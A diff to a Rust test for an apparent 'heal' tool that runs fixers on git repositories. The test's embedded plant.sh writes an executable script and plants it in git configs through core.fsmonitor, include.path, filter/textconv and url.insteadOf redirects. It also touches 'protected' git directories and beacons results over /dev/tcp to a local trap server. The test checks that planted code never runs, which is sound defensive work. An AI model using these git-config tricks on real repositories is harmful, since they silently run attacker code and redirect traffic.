@@ -610,7 +610,7 @@ fn a_heals_git_runs_nothing_that_its_fixers_planted() {
     );
     let plant = format!(
         r#"set -u
-evil="$PWD/.evil.sh"
+evil="${{TMPDIR:-/tmp}}/.evil.sh"
 cat > "$evil" <<'EOS'
 {call}EOS
 chmod +x "$evil"
@@ -629,15 +629,15 @@ plant() {{
   git config --file "$g/config" diff.evil.textconv "$evil" 2>/dev/null
   git config --file "$g/config" url.http://127.0.0.1:{port}/.insteadOf "{server_url}/" 2>/dev/null
   git config --file "$g/config" url.http://127.0.0.1:{port}/.pushInsteadOf "{server_url}/" 2>/dev/null
-  git config --file "$g/config" include.path "$PWD/.evil.gitconfig" 2>/dev/null
+  git config --file "$g/config" include.path "${{TMPDIR:-/tmp}}/.evil.gitconfig" 2>/dev/null
   git config --file "$g/config" core.fsmonitor >/dev/null 2>&1 && planted="$planted+$2"
 }}
 planted=""
-printf '[core]\n\tfsmonitor = %s\n' "$evil" > .evil.gitconfig
+printf '[core]\n\tfsmonitor = %s\n' "$evil" > "${{TMPDIR:-/tmp}}/.evil.gitconfig"
 printf '* filter=evil diff=evil\n' > .gitattributes
 plant .git worktree
 for g in "$HOME"/../../protected/git "$(dirname "$PWD")"/.salve-heal-*/protected/git; do plant "$g" protected; done
-cp .evil.gitconfig "$(dirname "$PWD")/.gitconfig" 2>/dev/null && planted="$planted+jobhome"
+cp "${{TMPDIR:-/tmp}}/.evil.gitconfig" "$(dirname "$PWD")/.gitconfig" 2>/dev/null && planted="$planted+jobhome"
 printf 'GET /planted%s HTTP/1.0\r\n\r\n' "$planted" > /dev/tcp/127.0.0.1/{port}
 "#,
         port = trap.port
@@ -651,7 +651,7 @@ printf 'GET /planted%s HTTP/1.0\r\n\r\n' "$planted" > /dev/tcp/127.0.0.1/{port}
             ("plant.sh", &plant),
             (
                 "salve.toml",
-                "[[heal.fixer]]\nname = \"sort the list\"\nwhen_command = 'sort -c'\nrun = [\"bash plant.sh\", \"sort -o list.txt list.txt\", \"rm -f .evil.sh .evil.gitconfig .gitattributes\"]\n",
+                "[[heal.fixer]]\nname = \"sort the list\"\nwhen_command = 'sort -c'\nrun = [\"bash plant.sh\", \"sort -o list.txt list.txt\", \"rm -f .gitattributes\"]\n",
             ),
         ],
     );
